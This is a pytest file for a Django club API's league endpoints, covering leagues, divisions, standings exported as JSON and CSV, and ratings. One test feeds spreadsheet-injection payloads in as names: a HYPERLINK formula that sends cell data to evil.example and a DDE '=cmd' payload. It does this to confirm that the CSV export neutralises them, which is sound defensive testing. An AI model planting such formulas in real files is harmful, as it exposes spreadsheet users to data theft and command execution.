"""The club API's leagues: listing, reading, the officials' writes, the season table (JSON and
CSV) and the league's ratings (club.api)."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable
from typing import Any

import pytest
from django.contrib.auth.models import User
from rest_framework.test import APIClient

from club import domain
from tests.club.api.conftest import NAMES, Season, club_caught_up
from tests.club.helpers import season_tournament
from tests.web.api import error

pytestmark = pytest.mark.django_db

ANA = domain.default_member("Ana")


def test_the_leagues_are_listed_with_their_rules_and_tournaments(
    season: Season, anon: APIClient
) -> None:
    listed = anon.get("/api/leagues/")
    assert listed.status_code == 200
    assert listed.json() == [
        {
            "id": season.league,
            "name": "Season 2026",
            "rules": domain.LeagueRules().to_json(),
            "tournaments": [str(season.first), str(season.second)],
        }
    ]
    league = anon.get(f"/api/leagues/{season.league}/").json()
    assert [
        (t["id"], t["name"], t["date"], t["game_type"], t["status"]) for t in league["tournaments"]
    ] == [
        (str(season.first), "Autumn night", "2026-12-01", "trick-n-chef", "finished"),
        (str(season.second), "Winter night", "2026-12-08", "trick-n-chef", "finished"),
    ]
    assert league["games"] == ["trick-n-chef"]


@pytest.mark.parametrize(
    "path",
    [
        "/api/leagues/999/",
        "/api/leagues/999/standings/",
        "/api/leagues/999/standings.csv",
        "/api/leagues/999/ratings/?game=trick-n-chef",
        "/api/leagues/99999999999999999999999/",
    ],
)
def test_an_unknown_league_is_a_404(anon: APIClient, path: str) -> None:
    response = anon.get(path)
    assert response.status_code == 404, response.content
    assert error(response)["code"] == "not_found"


# ----------------------------------------------------------------------------- writes


def test_only_the_clubs_officials_create_leagues(
    anon: APIClient, api: APIClient, official: APIClient
) -> None:
    body = {"name": "Spring", "rules": {"points": [3, 2, 1], "best": 2}}
    assert anon.post("/api/leagues/", body).status_code == 401
    refused = api.post("/api/leagues/", body)  # Ana: a user, not staff
    assert refused.status_code == 403
    assert error(refused)["code"] == "forbidden"
    assert "officials" in error(refused)["message"]
    created = official.post("/api/leagues/", body)
    assert created.status_code == 201, created.content
    league = created.json()
    assert created["Location"] == f"/api/leagues/{league['id']}/"
    assert league["name"] == "Spring" and league["tournaments"] == []
    assert league["rules"]["points"] == [3, 2, 1] and league["rules"]["best"] == 2
    assert league["rules"]["min_events"] == 1  # a default
    assert [x["name"] for x in anon.get("/api/leagues/").json()] == ["Spring"]


def test_a_browser_session_must_send_its_csrf_token(olga: User) -> None:
    browser = APIClient(enforce_csrf_checks=True)
    browser.force_login(olga)
    refused = browser.post("/api/leagues/", {"name": "Spring"})
    assert refused.status_code == 403
    assert error(refused)["code"] == "csrf_failed"


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"name": 5},
        {"name": ""},
        {"name": "   "},
        {"name": "x" * 101},
        {"name": "Spring", "colour": "red"},
        {"name": "Spring", "rules": []},
        {"name": "Spring", "rules": {"points": "25,18"}},
        {"name": "Spring", "rules": {"points": []}},
        {"name": "Spring", "rules": {"points": [10**30]}},
        {"name": "Spring", "rules": {"points": [-1]}},
        {"name": "Spring", "rules": {"points": [1.5]}},
        {"name": "Spring", "rules": {"best": True}},
        {"name": "Spring", "rules": {"best": 0}},
        {"name": "Spring", "rules": {"min_events": 10**100}},
        {"name": "Spring", "rules": {"drop_worst": "1"}},
        {"name": "Spring", "rules": {"divisions": "A, B"}},
        {"name": "Spring", "rules": {"divisions": ["A" * 41]}},
        {"name": "Spring", "rules": {"bonus": 3}},
        {"name": "Spring\x00"},
    ],
)
def test_a_malformed_league_is_a_400_naming_the_field(official: APIClient, body: Any) -> None:
    response = official.post("/api/leagues/", body, format="json")
    assert response.status_code == 400, response.content
    refused = error(response)
    assert refused["code"] == "bad_request"
    assert official.get("/api/leagues/").json() == []


def test_what_the_rules_refuse_is_a_422_with_its_code(official: APIClient) -> None:
    response = official.post(
        "/api/leagues/", {"name": "Spring", "rules": {"divisions": ["A", "A"]}}
    )
    assert response.status_code == 422, response.content
    assert error(response)["code"] == "bad_divisions"


def test_a_body_that_is_not_json_is_a_400(official: APIClient) -> None:
    response = official.post("/api/leagues/", "{name", content_type="application/json")
    assert response.status_code == 400
    assert error(response)["code"] == "bad_json"
    listed = official.post("/api/leagues/", [1, 2], format="json")
    assert listed.status_code == 400


def test_a_league_changes_its_name_and_rules(
    season: Season, official: APIClient, api: APIClient
) -> None:
    path = f"/api/leagues/{season.league}/"
    assert api.patch(path, {"name": "Mine"}).status_code == 403
    changed = official.patch(path, {"name": "Season 2026/27", "rules": {"points": [10, 5]}})
    assert changed.status_code == 200, changed.content
    league = changed.json()
    assert league["name"] == "Season 2026/27"
    assert league["rules"]["points"] == [10, 5]
    assert league["rules"]["min_events"] == 1  # the others kept
    assert official.patch(path, {"rules": {"points": "x"}}).status_code == 400
    assert official.patch("/api/leagues/999/", {"name": "x"}).status_code == 404
    standings = official.get(f"{path}standings/").json()
    assert standings["rows"][0]["results"][0]["points"] == 10  # the new rules applied


def test_tournaments_are_linked_and_unlinked(
    season: Season, official: APIClient, api: APIClient, anon: APIClient
) -> None:
    base = f"/api/leagues/{season.league}/tournaments/"
    assert api.delete(f"{base}{season.first}/").status_code == 403
    assert anon.delete(f"{base}{season.first}/").status_code == 401
    unlinked = official.delete(f"{base}{season.first}/")
    assert unlinked.status_code == 200, unlinked.content
    assert [t["id"] for t in unlinked.json()["tournaments"]] == [str(season.second)]
    again = official.delete(f"{base}{season.first}/")
    assert again.status_code == 422 and error(again)["code"] == "not_linked"
    unknown = official.post(base, {"tournament": str(uuid.uuid4())})
    assert unknown.status_code == 422 and error(unknown)["code"] == "no_tournament"
    assert official.post(base, {"tournament": "not-a-uuid"}).status_code == 400
    assert official.post(base, {"tournament": 7}).status_code == 400
    relinked = official.post(base, {"tournament": str(season.first)})
    assert relinked.status_code == 201
    assert len(relinked.json()["tournaments"]) == 2
    assert anon.get("/api/leagues/").json()[0]["tournaments"] == [
        str(season.second),
        str(season.first),
    ]  # as linked


def test_members_are_put_in_divisions(season: Season, official: APIClient) -> None:
    path = f"/api/leagues/{season.league}/"
    official.patch(path, {"rules": {"divisions": ["Gold", "Silver"]}})
    put = official.post(f"{path}divisions/", {"member": ANA, "division": "Gold"})
    assert put.status_code == 201, put.content
    rows = official.get(f"{path}standings/").json()["rows"]
    divisions = {r["member"]: r["division"] for r in rows}
    assert divisions[ANA] == "Gold"
    assert divisions[domain.default_member("Ben")] == ""
    bad = official.post(f"{path}divisions/", {"member": ANA, "division": "Bronze"})
    assert bad.status_code == 422 and error(bad)["code"] == "no_division"
    nobody = official.post(f"{path}divisions/", {"member": "0" * 12, "division": "Gold"})
    assert nobody.status_code == 422 and error(nobody)["code"] == "no_member"
    assert official.post(f"{path}divisions/", {"member": ANA}).status_code == 400


# ----------------------------------------------------------------------------- standings


def test_the_season_table(season: Season, anon: APIClient) -> None:
    standings = anon.get(f"/api/leagues/{season.league}/standings/").json()
    assert standings["league"] == season.league and standings["name"] == "Season 2026"
    assert [t["id"] for t in standings["tournaments"]] == [str(season.first), str(season.second)]
    assert standings["rules"] == domain.LeagueRules().to_json()
    rows = standings["rows"]
    assert len(rows) == 8  # Zed, a no-show, took no place
    assert "Zed" not in {r["name"] for r in rows}
    first = rows[0]
    assert set(first) == {"rank", "member", "name", "division", "total", "played", "results"}
    assert first["rank"] == 1 and first["played"] == 2
    assert first["total"] == sum(r["points"] for r in first["results"] if r["counted"])
    assert set(first["results"][0]) == {"tournament", "place", "points", "counted"}
    assert [r["rank"] for r in rows] == sorted(r["rank"] for r in rows)


def test_a_member_below_the_minimum_is_not_ranked(season: Season, official: APIClient) -> None:
    official.patch(f"/api/leagues/{season.league}/", {"rules": {"min_events": 3}})
    rows = official.get(f"/api/leagues/{season.league}/standings/").json()["rows"]
    assert {r["rank"] for r in rows} == {None}


def _csv_rows(response: Any) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_season_table_as_csv(season: Season, anon: APIClient) -> None:
    base = f"/api/leagues/{season.league}/standings"
    by_suffix = anon.get(f"{base}.csv")
    by_query = anon.get(f"{base}/?format=csv")
    for response in (by_suffix, by_query):
        assert response.status_code == 200, response.content
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert 'filename="season-2026-standings.csv"' in response["Content-Disposition"]
    assert by_suffix.content == by_query.content
    rows = _csv_rows(by_suffix)
    assert rows[0] == [
        "Rank",
        "Name",
        "Division",
        "Total",
        "Played",
        "Autumn night",
        "Winter night",
    ]
    table = anon.get(f"{base}/").json()["rows"]
    assert [r[1] for r in rows[1:]] == [r["name"] for r in table]
    assert [int(r[3]) for r in rows[1:]] == [r["total"] for r in table]
    assert anon.get(f"{base}/?format=json").json()["rows"] == table
    bad = anon.get(f"{base}/?format=xml")
    assert bad.status_code == 400 and error(bad)["code"] == "bad_request"


def test_the_csv_cells_are_safe_for_a_spreadsheet(
    committed_db: None, olga: User, official: APIClient, django_capture_on_commit_callbacks: Any
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    tid = season_tournament(
        olga,
        [evil, "+1+2", "@SUM(A1)", "-2+3", "Ana", "Ben", "Cleo", "Dev"],
        on_commit=django_capture_on_commit_callbacks,
        name="=cmd|' /C calc'!A0",
    )
    club_caught_up()
    league = official.post("/api/leagues/", {"name": "-Season"}).json()["id"]
    official.post(f"/api/leagues/{league}/tournaments/", {"tournament": str(tid)})
    rows = _csv_rows(official.get(f"/api/leagues/{league}/standings.csv"))
    assert rows[0][5] == "'=cmd|' /C calc'!A0"
    names = {r[1] for r in rows[1:]}
    assert {"'" + evil, "'+1+2", "'@SUM(A1)", "'-2+3", "Ana"} <= names
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    json_names = {
        r["name"] for r in official.get(f"/api/leagues/{league}/standings/").json()["rows"]
    }
    assert evil in json_names  # only the CSV cell changes


# ----------------------------------------------------------------------------- ratings


def test_the_leagues_ratings_of_a_game(season: Season, anon: APIClient) -> None:
    response = anon.get(f"/api/leagues/{season.league}/ratings/?game=trick-n-chef")
    assert response.status_code == 200, response.content
    rows = response.json()
    assert len(rows) == 8
    for row in rows:
        assert {"member", "mu", "sigma", "ordinal", "games"} <= set(row)
        assert set(row) <= {"member", "mu", "sigma", "ordinal", "games", "name", "provisional"}
        assert row["ordinal"] == pytest.approx(row["mu"] - 3 * row["sigma"], abs=1e-9)
        assert row["games"] == 4 and row["provisional"] is True
    assert [r["ordinal"] for r in rows] == sorted((r["ordinal"] for r in rows), reverse=True)
    assert {r["member"] for r in rows} == {domain.default_member(n) for n in NAMES}


@pytest.mark.parametrize(
    ("query", "words"),
    [
        ("", "say which game"),
        ("?game=", "may not be empty"),
        ("?game=chefs", "chefs is not a game of this league"),
        ("?game=no-such-game", "not a game of this league"),
        ("?game=trick-n-chef&game=chefs", "only once"),
    ],
)
def test_a_ratings_read_must_name_one_of_the_leagues_games(
    season: Season, anon: APIClient, query: str, words: str
) -> None:
    response = anon.get(f"/api/leagues/{season.league}/ratings/{query}")
    assert response.status_code == 400, response.content
    refused = error(response)
    assert refused["code"] in ("bad_game", "bad_request")
    assert words in refused["message"]
    if refused["code"] == "bad_game":
        assert "trick-n-chef" in refused["message"]  # the league's games, listed


def test_a_league_with_no_tournaments_says_so(official: APIClient) -> None:
    league = official.post("/api/leagues/", {"name": "Empty"}).json()["id"]
    response = official.get(f"/api/leagues/{league}/ratings/?game=trick-n-chef")
    assert response.status_code == 400
    assert "no tournaments yet" in error(response)["message"]
    assert official.get(f"/api/leagues/{league}/standings/").json()["rows"] == []


def test_writes_are_reflected_once_their_consumer_ran(
    season: Season, official: APIClient, commit: Callable[[], Any]
) -> None:
    """A merge re-rates: once the write commits the club's consumer runs, and the reads show
    it (Hal's entries now count for Gus, who is then one member of nine entries)."""
    gus, hal = domain.default_member("Gus"), domain.default_member("Hal")
    with commit():
        merged = official.post("/api/members/merge/", {"member": hal, "into": gus})
    assert merged.status_code == 201, merged.content
    rows = official.get(f"/api/leagues/{season.league}/ratings/?game=trick-n-chef").json()
    assert hal not in {r["member"] for r in rows}
    table = official.get(f"/api/leagues/{season.league}/standings/").json()["rows"]
    assert len(table) == 7
